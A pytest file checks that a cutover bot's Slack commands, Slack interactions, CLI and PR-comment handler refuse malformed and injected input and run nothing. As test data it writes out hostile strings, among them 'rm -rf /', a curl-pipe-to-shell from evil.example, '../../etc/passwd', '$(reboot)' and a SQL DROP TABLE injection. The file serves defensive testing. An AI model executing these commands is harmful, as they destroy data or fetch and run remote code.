"""Bad input on every surface: Slack slash commands, Slack interactivity, the CLI, PR comments.

Unknown environments, injections (`prod; rm -rf /`, Slack mentions and links, 10 kB strings, Unicode
confusables and right-to-left marks), malformed interaction payloads, clicks naming unknown or foreign runs,
odd PR comment commands: each gets a clear refusal, nothing runs (no run in the store, no call to any
upstream: AWS counted per request of the bot's access key, every loopback fake's requests), nothing
answers 500, and no traceback is logged or printed. The real commands run behind every surface here.
Clicks on unknown, expired and foreign approvals are in tests/test_approvals_slack.py.
"""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bot.slack.blocks import CONFIRM_ACTION
from bot.terminal.cli import main
from commands.config import CutoverConfig, Tokens, load_config
from commands.execute import execute
from commands.state import store_for
from integrations.sandbox.aws_faults import AwsFaults, install
from integrations.sandbox.env import ENGINEER, REPO, Sandbox, Scenario
from tests.actions_support import write_map
from tests.approval_support import block_actions_payload, post_interaction
from tests.slack_support import CHANNEL, served_bot

# The reliability suite (issue 23): in the default run, and alone with python -m pytest -m reliability
pytestmark = pytest.mark.reliability

ENV = "bad-input"
RTL, ZWSP = "\u202e", "\u200b"
CONFUSABLE = f"{ENV[:-1]}\u0442"  # the last letter Cyrillic: looks like the env, is not it
HUGE = "x" * 10_240
INJECTIONS = [
    "nosuchenv",
    f"{ENV}; rm -rf /",
    f"{ENV} && curl https://evil.example/x.sh | sh",
    f"<@U0ADMIN> {ENV}",
    f"<https://evil.example|{ENV}>",
    f"<!channel> {ENV}",
    HUGE,
    f"{ENV} {HUGE}",
    CONFUSABLE,
    f"{RTL}{ENV}",
    f"{ENV}{ZWSP}",
    f"{ENV} pr=abc",
    f"{ENV} pr=-1",
    f"{ENV} pr=99999999999999999999999",
    f"{ENV} dry-run=yes please",
    f"{ENV}\nrm -rf /",
    "../../etc/passwd",
    "$(reboot)",
]
COMMANDS = ("/preflight", "/canary", "/enable-outbound", "/rollback")


@pytest.fixture(scope="module")
def world(sandbox: Sandbox, tmp_path_factory) -> dict[str, Any]:
    if ENV not in sandbox.envs:
        sandbox.add_env(ENV, Scenario(approval_required=()))
    directory = tmp_path_factory.mktemp("bad-input")
    path = write_map(sandbox, directory, logins={ENV: {"octocat": ENGINEER}})
    return {"path": path, "config": load_config(path), "dir": directory}


@pytest.fixture(scope="module")
def aws_calls(sandbox: Sandbox) -> AwsFaults:
    return install(sandbox.aws, access_key=sandbox.bot_access_key_id)


class Tracebacks(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.found: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        if record.exc_info or record.levelno >= logging.ERROR:
            self.found.append(f"{record.name}: {record.getMessage()}")


@pytest.fixture
def tracebacks() -> Iterator[Tracebacks]:
    handler = Tracebacks()
    logging.getLogger().addHandler(handler)
    try:
        yield handler
    finally:
        logging.getLogger().removeHandler(handler)


def upstream_requests(sandbox: Sandbox, aws: AwsFaults) -> dict[str, int]:
    """Every call that could mean "something ran": AWS by the bot's key, each loopback fake, GitHub."""
    counts = {f"aws:{k}": v for k, v in aws.calls.items()}
    env = sandbox.envs[ENV]
    counts.update({fake.name: len(fake.requests) for fake in env.fakes})
    counts["github"] = len(sandbox.github.requests)
    return counts


def runs_recorded(config: CutoverConfig) -> int:
    store = store_for(config)
    return sum(len(store.runs(env, limit=100)) for env in config.envs)


def assert_nothing_ran(sandbox, config, aws, before_calls, before_runs) -> None:
    assert upstream_requests(sandbox, aws) == before_calls, "an upstream was called"
    assert runs_recorded(config) == before_runs, "a run was recorded"


# --- Slack slash commands -----------------------------------------------------------------------------


@pytest.mark.parametrize("command", COMMANDS)
def test_slash_commands_refuse_bad_input_clearly_and_run_nothing(sandbox, world, aws_calls, tracebacks, command):
    config = world["config"]
    before_calls, before_runs = upstream_requests(sandbox, aws_calls), runs_recorded(config)
    with served_bot(execute, config=config, fake=sandbox.slack, tokens=Tokens()) as h:
        for text in INJECTIONS:
            reply = h.command(command, text, user=ENGINEER)
            assert reply.status_code == 200, (text[:40], reply.status_code)
            body = reply.json()
            said = body.get("text", "")
            assert body.get("response_type", "ephemeral") == "ephemeral", (text[:40], said)
            assert "Nothing was run" in said or "unknown" in said.lower() or "usage" in said.lower(), (text[:40], said)
            assert len(said) < 3_000 and "Traceback" not in said
            for raw in ("<@U0ADMIN>", "<!channel>", "<https://evil.example", RTL, ZWSP, HUGE[:1000]):
                assert raw not in said, f"{command} {text[:30]!r} echoed {raw[:20]!r} raw"
        assert h.fake.messages(CHANNEL) == [], "no run message, no approval request"
    assert_nothing_ran(sandbox, config, aws_calls, before_calls, before_runs)
    assert tracebacks.found == []


def test_cutover_subcommands_refuse_odd_words(sandbox, world, aws_calls, tracebacks):
    config = world["config"]
    before_calls, before_runs = upstream_requests(sandbox, aws_calls), runs_recorded(config)
    with served_bot(execute, config=config, fake=sandbox.slack, tokens=Tokens()) as h:
        for text in ("", "rm -rf /", "status", "status nosuchenv", f"status {CONFUSABLE}", f"status {HUGE}", "help me"):
            reply = h.command("/cutover", text, user=ENGINEER)
            assert reply.status_code == 200
            said = reply.json().get("text", "") + json.dumps(reply.json().get("blocks", []))
            assert "Traceback" not in said and HUGE[:1000] not in said
        assert h.fake.messages(CHANNEL) == []
    assert_nothing_ran(sandbox, config, aws_calls, before_calls, before_runs)
    assert tracebacks.found == []


# --- Slack interactivity ------------------------------------------------------------------------------


def confirm_payload(h, value: Any, **overrides: Any) -> dict[str, Any]:
    payload = block_actions_payload(
        user=ENGINEER,
        channel=CHANNEL,
        message_ts="1700000000.000100",
        action_id=CONFIRM_ACTION,
        value=value,
        response_url=h.fake.response_url("click"),
    )
    payload.update(overrides)
    return payload


def test_malformed_and_foreign_interactions_are_answered_without_a_500_and_change_nothing(
    sandbox, world, aws_calls, tracebacks
):
    config = world["config"]
    store = store_for(config)
    before_calls, before_runs = upstream_requests(sandbox, aws_calls), runs_recorded(config)
    audit_before = len(store.audit_trail(ENV, limit=500))
    with served_bot(execute, config=config, fake=sandbox.slack, tokens=Tokens()) as h:
        bodies: list[Any] = [
            "{not json",
            "[]",
            "null",
            json.dumps({"type": "block_actions"}),  # no user, no actions
            json.dumps({"type": "block_actions", "user": {"id": ENGINEER}, "actions": []}),
            json.dumps({"type": "view_submission", "user": {"id": ENGINEER}, "view": {"callback_id": "nope"}}),
            json.dumps({"type": "no_such_type", "user": {"id": ENGINEER}}),
            confirm_payload(h, "not json at all"),
            confirm_payload(h, json.dumps({"run": "nosuchrun01", "env": ENV, "step": "rule-paused"})),
            confirm_payload(h, json.dumps({"run": "nosuchrun01", "env": "nosuchenv", "step": "rule-paused"})),
            confirm_payload(h, json.dumps({"run": "x" * 5000, "env": ENV, "step": HUGE})),
            confirm_payload(h, json.dumps({"run": "r1", "env": CONFUSABLE, "step": f"{RTL}rule-paused"})),
            confirm_payload(h, json.dumps(["run", ENV])),
            confirm_payload(h, json.dumps({"run": "r1", "env": ENV, "step": "rule-paused"}), user={"id": "U0NOBODY"}),
            confirm_payload(h, json.dumps({"run": "r1", "env": ENV, "step": "rule-paused"}), user=None),
        ]
        unknown_action = confirm_payload(h, "v")
        unknown_action["actions"][0]["action_id"] = "no_such_action"
        bodies.append(unknown_action)
        for body in bodies:
            reply = post_interaction(h.http, h.url, body, secret=h.secret)
            assert reply.status_code in (200, 400, 404), (str(body)[:80], reply.status_code, reply.text[:200])
            assert "Traceback" not in reply.text
        told = [e.get("text", "") for e in h.fake.ephemerals()] + [json.dumps(r) for r in h.fake.responses()]
        assert all("Traceback" not in t and HUGE[:1000] not in t and RTL not in t for t in told)
        assert h.fake.messages(CHANNEL) == []
    assert_nothing_ran(sandbox, config, aws_calls, before_calls, before_runs)
    assert len(store.audit_trail(ENV, limit=500)) == audit_before, "a bad click was recorded as something"
    assert store.confirmation("nosuchrun01", "rule-paused") is None
    assert tracebacks.found == []


# --- the CLI ----------------------------------------------------------------------------------------


CLI_CASES = [
    ["preflight", "--env", "nosuchenv"],
    ["rollback", "--env", f"{ENV}; rm -rf /"],
    ["rollback", "--env", HUGE],
    ["canary", "--env", CONFUSABLE],
    ["enable-outbound", "--env", f"{RTL}{ENV}"],
    ["preflight", "--env", ENV, "--pr", "abc"],
    ["preflight", "--env", ENV, "--pr", "-5"],
    ["rollback", "--env", ENV, "--confirm", "rm -rf /"],
    ["canary", "--env", ENV, "--approval", "'; DROP TABLE approvals; --"],
    ["rm", "-rf", "/"],
    ["preflight"],
    ["status", "--env", "nosuchenv"],
]


@pytest.mark.parametrize("argv", CLI_CASES, ids=lambda a: " ".join(a)[:40])
def test_the_cli_refuses_bad_input_with_a_clear_line_and_runs_nothing(sandbox, world, aws_calls, capsys, argv):
    config = world["config"]
    before_calls, before_runs = upstream_requests(sandbox, aws_calls), runs_recorded(config)
    needs_config = argv[0] in ("preflight", "rollback", "canary", "enable-outbound", "status")
    extra = ["--config", str(world["path"])] if needs_config else []
    try:
        code = main([*argv, *extra])
    except SystemExit as exc:  # argparse's own usage errors
        code = exc.code
    out = capsys.readouterr()
    assert code in (1, 2), (argv, code, out.err[-300:])  # 2: bad usage; 1: a rule refused it first
    assert "Traceback" not in out.err + out.out
    assert out.err.strip(), "a refusal says why on stderr"
    assert RTL not in out.err and ZWSP not in out.err  # invisible characters are shown escaped
    assert HUGE[:1000] not in out.err and len(out.err) < 2000  # a 10 kB word is cut, never echoed whole
    assert_nothing_ran(sandbox, config, aws_calls, before_calls, before_runs)


# --- PR comments ----------------------------------------------------------------------------------------


PR, BRANCH = 73, "cutover/bad-input"
ODD_COMMENTS = [
    "/preflight",
    "/preflight nosuchenv",
    "/rm -rf /",
    f"/rollback {ENV}; rm -rf /",
    f"/preflight {HUGE}",
    f"/preflight {CONFUSABLE}",
    f"/canary {RTL}{ENV}",
    f"/preflight <@U0ADMIN> {ENV}",
    f"/preflight {ENV} pr=abc",
]


def pr_comment(sandbox: Sandbox, world: dict[str, Any], body: str, monkeypatch) -> tuple[int, int]:
    if PR not in sandbox.github.pulls:
        sandbox.github.add_pr(PR, BRANCH)
    sandbox.github.set_role("octocat", "write")
    cid = sandbox.github.add_comment(PR, body, author="octocat")
    event = {
        "action": "created",
        "comment": {**sandbox.github.comment_json(cid), "author_association": "MEMBER"},
        "issue": {"number": PR, "pull_request": {"url": f"{sandbox.github.api}/pulls/{PR}"}},
        "repository": {"full_name": REPO},
    }
    path = Path(world["dir"]) / f"event-{cid}.json"
    path.write_text(json.dumps(event), encoding="utf-8")
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(path))
    monkeypatch.delenv("GITHUB_OUTPUT", raising=False)
    code = main(["pr-comment", "--config", str(world["path"]), "--evidence-dir", str(Path(world["dir"]) / "evidence")])
    return cid, code


@pytest.mark.parametrize("body", ODD_COMMENTS, ids=lambda b: b[:30])
def test_odd_pr_comments_get_a_reply_and_run_nothing(sandbox, world, aws_calls, monkeypatch, capsys, body):
    config = world["config"]
    env = sandbox.envs[ENV]
    before_fakes = {fake.name: len(fake.requests) for fake in env.fakes}
    before_aws, before_runs = dict(aws_calls.calls), runs_recorded(config)
    cid, code = pr_comment(sandbox, world, body, monkeypatch)
    out = capsys.readouterr()
    assert code in (0, 1, 2), code
    assert "Traceback" not in out.err + out.out
    assert {fake.name: len(fake.requests) for fake in env.fakes} == before_fakes
    assert dict(aws_calls.calls) == before_aws
    assert runs_recorded(config) == before_runs
    replies = [
        c["body"]
        for c in sandbox.github.comments(PR)
        if c["id"] > cid and c["author"] == sandbox.github.login and not c["body"].startswith("<!--")
    ]
    for reply in replies:
        assert "Traceback" not in reply and HUGE[:1000] not in reply
